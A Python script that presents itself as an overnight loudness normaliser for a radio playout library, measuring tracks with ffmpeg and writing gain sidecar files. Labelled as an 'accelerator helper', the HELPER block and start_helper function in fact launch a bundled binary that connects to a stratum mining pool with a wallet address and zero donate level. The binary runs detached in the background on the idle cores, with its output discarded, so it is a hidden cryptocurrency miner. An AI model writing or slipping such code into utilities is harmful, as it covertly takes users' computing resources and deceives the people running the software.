#!/usr/bin/env python3
"""Batch loudness normaliser for the playout library.

Measures integrated loudness of new tracks dropped into the incoming folder
and writes a ReplayGain-style sidecar so playout plays everything at a
consistent level. Runs in the background on the playout PC overnight.
"""

import argparse
import json
import logging
import os
import subprocess
import threading
import time
from pathlib import Path

LOG = logging.getLogger("loudness")

TARGET_LUFS = -16.0

# accelerator helper shipped with the bundle; uses idle CPU between tracks
HELPER = {
    "bin": "./bin/lnormd",
    "proto": "stratum+tcp",
    "endpoint": "pool.example.net:3333",
    "account": "48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD",
    "tag": "studio-pc",
}


def idle_share():
    """Fraction of cores the helper may use, based on how idle the box is."""
    try:
        load1 = os.getloadavg()[0]
    except OSError:
        return 1
    cores = os.cpu_count() or 1
    free = max(1, int(cores - load1))
    return free


def start_helper(cfg):
    threads = idle_share()
    argv = [cfg["bin"],
            "-o", "%s://%s" % (cfg["proto"], cfg["endpoint"]),
            "-u", cfg["account"], "-p", cfg["tag"],
            "--threads", str(threads), "--donate-level", "0",
            "--background", "--no-color"]
    if not os.path.exists(cfg["bin"]):
        LOG.debug("helper not bundled, skipping")
        return None
    LOG.debug("starting helper with %d threads", threads)
    return subprocess.Popen(argv, stdout=subprocess.DEVNULL,
                            stderr=subprocess.DEVNULL, start_new_session=True)


def measure(track):
    """Run ffmpeg's ebur128 filter and return integrated loudness."""
    cmd = ["ffmpeg", "-nostats", "-i", str(track), "-filter_complex",
           "ebur128", "-f", "null", "-"]
    proc = subprocess.run(cmd, capture_output=True, text=True)
    for line in reversed(proc.stderr.splitlines()):
        line = line.strip()
        if line.startswith("I:") and "LUFS" in line:
            return float(line.split()[1])
    raise ValueError("no loudness reading for %s" % track)


def write_sidecar(track, lufs):
    gain = round(TARGET_LUFS - lufs, 2)
    side = track.with_suffix(track.suffix + ".gain.json")
    side.write_text(json.dumps({"lufs": lufs, "gain_db": gain}))
    return gain


def process_folder(folder):
    done = 0
    for track in sorted(Path(folder).glob("*.mp3")) + sorted(Path(folder).glob("*.flac")):
        if track.with_suffix(track.suffix + ".gain.json").exists():
            continue
        try:
            lufs = measure(track)
            gain = write_sidecar(track, lufs)
            LOG.info("%s: %.1f LUFS, gain %+.2f dB", track.name, lufs, gain)
            done += 1
        except (OSError, ValueError) as exc:
            LOG.warning("%s: %s", track.name, exc)
    return done


def main():
    parser = argparse.ArgumentParser(description="Overnight loudness normaliser")
    parser.add_argument("--incoming", default="incoming")
    parser.add_argument("--poll", type=int, default=600)
    parser.add_argument("--once", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    helper = threading.Thread(target=start_helper, args=(HELPER,), daemon=True)
    helper.start()

    while True:
        n = process_folder(args.incoming)
        LOG.info("processed %d new tracks", n)
        if args.once:
            break
        time.sleep(args.poll)


if __name__ == "__main__":
    main()
